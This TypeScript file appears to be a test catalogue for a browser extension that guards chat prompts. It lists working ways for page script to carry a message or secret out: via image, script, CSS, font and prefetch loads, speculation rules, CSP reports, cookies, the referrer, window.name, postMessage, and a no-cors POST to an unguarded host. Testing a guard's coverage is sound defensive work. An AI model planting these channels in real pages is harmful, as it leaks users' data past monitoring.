/** Words in an address: everything that makes a browser load something. */
import type { Kit, Trick } from "../trick";
import { byChance, open, openUnpacked } from "./holes";

const CARRIED = "Cookies, request headers, the referrer and a frame's name";
const BY_ITSELF = "Addresses that a browser loads by itself";

export const ADDRESSES: readonly Trick[] = [
  {
    name: "get-query",
    about: "Puts the message into the query of a GET request.",
    send: async ({ text }) => (await fetch(`/search?q=${encodeURIComponent(text)}`)).status,
  },
  {
    name: "get-path",
    about: "Puts the message into the path of a GET request.",
    send: async ({ text }) => (await fetch(`/search/${encodeURIComponent(text)}`)).status,
  },
  {
    name: "post-query",
    about: "Posts nothing to the prompt address, with the message in its query.",
    send: async ({ prompt, text }) =>
      (await fetch(`${prompt}?q=${encodeURIComponent(text)}`, { method: "POST", body: "{}" }))
        .status,
  },
  {
    name: "post-query-beside-text",
    about: "Posts an innocent message, with the real one in the query of the address.",
    send: async ({ prompt, text, post, body }) =>
      (await fetch(`${prompt}?q=${encodeURIComponent(text)}`, post(body("Good morning")))).status,
  },
  {
    name: "xhr-query-beside-text",
    about:
      "Sends an innocent message by XMLHttpRequest, with the real one in the query of the address.",
    send({ prompt, text, body }) {
      const xhr = new XMLHttpRequest();
      xhr.open("POST", `${prompt}?q=${encodeURIComponent(text)}`);
      xhr.send(body("Good morning"));
    },
  },
  {
    name: "deep-link",
    about: "Goes to the chat's own address with the message as its question.",
    holes: openUnpacked(BY_ITSELF),
    async send({ text, wait }) {
      await wait(300); // a page that is not all there yet makes room for one that says why
      location.href = `/?q=${encodeURIComponent(text)}`;
      await wait(1_000);
    },
  },
  {
    name: "image",
    about: "Loads a picture whose address carries the message.",
    holes: openUnpacked(BY_ITSELF),
    send: ({ text }) => void (new Image().src = `/pixel.png?q=${encodeURIComponent(text)}`),
  },
  {
    name: "script-element",
    about: "Loads a script whose address carries the message.",
    holes: openUnpacked(BY_ITSELF),
    send: (kit) => element("script", { src: address(kit) }),
  },
  {
    name: "dynamic-import",
    about: "Imports a module whose address carries the message.",
    holes: openUnpacked(BY_ITSELF),
    send: (kit) => import(address(kit)).catch(() => undefined),
  },
  {
    name: "css-url",
    about: "Has a style load a background whose address carries the message.",
    holes: openUnpacked(BY_ITSELF),
    send: (kit) => void (document.body.style.backgroundImage = `url("${address(kit)}")`),
  },
  {
    name: "css-import",
    about: "Has a style import another one whose address carries the message.",
    holes: openUnpacked(BY_ITSELF),
    send(kit) {
      const style = document.createElement("style");
      style.textContent = `@import url("${address(kit)}");`;
      document.head.append(style);
    },
  },
  {
    name: "font-face",
    about: "Loads a font whose address carries the message.",
    holes: openUnpacked(BY_ITSELF),
    send: (kit) => new FontFace("words", `url("${address(kit)}")`).load().catch(() => undefined),
  },
  {
    name: "prefetch",
    about: "Asks for a prefetch of an address that carries the message.",
    holes: openUnpacked(BY_ITSELF),
    send: (kit) => element("link", { rel: "prefetch", href: address(kit) }),
  },
  {
    name: "frame-address",
    about: "Loads a frame whose address carries the message.",
    holes: openUnpacked(BY_ITSELF),
    send: (kit) => element("iframe", { src: address(kit) }),
  },
  {
    name: "window-open",
    about: "Opens a window whose address carries the message.",
    holes: openUnpacked(BY_ITSELF),
    send: (kit) => void window.open(address(kit)),
  },
  {
    name: "ping",
    about: "Has a link tell its ping address of a click, the message in that address.",
    only: "chromium",
    holes: openUnpacked(BY_ITSELF),
    async send(kit) {
      const link = document.createElement("a");
      link.href = "#here";
      link.ping = address(kit);
      document.body.append(link);
      link.click();
      await kit.wait(100);
    },
  },
  {
    name: "meta-refresh",
    about: "Sends the page on by a meta element, the message in the address.",
    holes: openUnpacked(BY_ITSELF),
    send: (kit) => element("meta", { "http-equiv": "refresh", content: `0;url=${address(kit)}` }),
  },
  {
    name: "speculation-rules",
    about: "Asks for a prefetch by speculation rules, the message in the address.",
    only: "chromium",
    holes: openUnpacked(BY_ITSELF),
    settleMs: 1_500,
    send(kit) {
      const rules = document.createElement("script");
      rules.type = "speculationrules";
      rules.textContent = JSON.stringify({
        prefetch: [{ urls: [address(kit)], eagerness: "immediate" }],
      });
      document.head.append(rules);
    },
  },
  {
    name: "prerender",
    about: "Has the browser render a page beforehand, which sends the message.",
    only: "chromium",
    undriven: true,
    mostMs: 14_000,
    async send({ file, text, wait }) {
      await wait(8_000); // an extension that is being installed guards nothing, one that starts refuses all
      const rules = document.createElement("script");
      rules.type = "speculationrules";
      const url = `${file("prerendered.html")}#${encodeURIComponent(text)}`;
      rules.textContent = JSON.stringify({ prerender: [{ urls: [url], eagerness: "immediate" }] });
      document.head.append(rules);
    },
  },
  {
    name: "csp-report",
    about: "Breaks the page's own security policy, whose report names the blocked address.",
    headers: { "content-security-policy": "img-src 'none'; report-uri /csp-report" },
    holes: openUnpacked("Reports that a browser sends by itself"),
    settleMs: 1_500,
    send: (kit) => void (new Image().src = address(kit)),
  },
  {
    name: "reporting-api",
    about: "Breaks a policy that reports to an endpoint of the Reporting API.",
    only: "chromium",
    headers: {
      "content-security-policy": "img-src 'none'; report-to words",
      "reporting-endpoints": 'words="/reports"',
    },
    holes: byChance(open("Reports that a browser sends by itself")),
    // A driven browser grants no page the permission that reports need.
    undriven: true,
    mostMs: 20_000,
    send: (kit) => void (new Image().src = address(kit)),
  },
  {
    name: "request-header",
    about: "Puts the message into a header of an innocent prompt.",
    holes: open(CARRIED),
    send: async ({ prompt, post, body, secret }) =>
      (
        await fetch(prompt, {
          ...post(body("Good morning")),
          headers: { "content-type": "application/json", "x-words": `to ${secret} please` },
        })
      ).status,
  },
  {
    name: "cookie",
    about: "Puts the message into a cookie, which every request takes along.",
    holes: open(CARRIED),
    async send({ secret, file }) {
      document.cookie = `words=${secret}; path=/hostile/`;
      await fetch(file("blank.html"));
      document.cookie = "words=; path=/hostile/; max-age=0";
    },
  },
  {
    name: "referrer",
    about:
      "Puts the message into the page's own address, which every request names as its referrer.",
    holes: open(CARRIED),
    async send({ secret, file }) {
      history.replaceState(null, "", `${location.pathname}${location.search}&words=${secret}`);
      await fetch(file("blank.html"), { referrerPolicy: "unsafe-url" });
    },
  },
  {
    name: "window-name",
    about: "Opens a frame of a host that nobody guards, with the message as its name.",
    holes: open(CARRIED),
    send: ({ frame, elsewhere, text }) =>
      frame((element) => {
        element.name = text;
        element.src = `${elsewhere}sink.html`;
      }),
  },
  {
    name: "post-message",
    about: "Posts the message to a frame of a host that nobody guards, which passes it on.",
    holes: open("A frame or window of another host"),
    async send({ frame, elsewhere, text }) {
      const inner = await frame((element) => (element.src = `${elsewhere}sink.html`));
      inner.contentWindow?.postMessage(text, "*");
    },
  },
  {
    name: "plain-address",
    about: "Posts the message to an address that no site lists and that sounds like nothing.",
    holes: open("An address that no site lists and that does not sound like a chat"),
    send: async ({ post }) => (await fetch("/t", post())).status,
  },
  {
    name: "other-host",
    about: "Posts the message to a host that nobody guards.",
    holes: open("An address that no site lists and that does not sound like a chat"),
    send: ({ post, elsewhere }) =>
      fetch(new URL("/collect", elsewhere), { ...post(), headers: {}, mode: "no-cors" }),
  },
];

function address({ text }: Kit): string {
  return `${location.origin}/pixel?q=${encodeURIComponent(text)}`;
}

function element(tag: string, attributes: Readonly<Record<string, string>>): void {
  const made = document.createElement(tag);
  for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
  document.head.append(made);
  if (tag === "iframe") document.body.append(made);
}
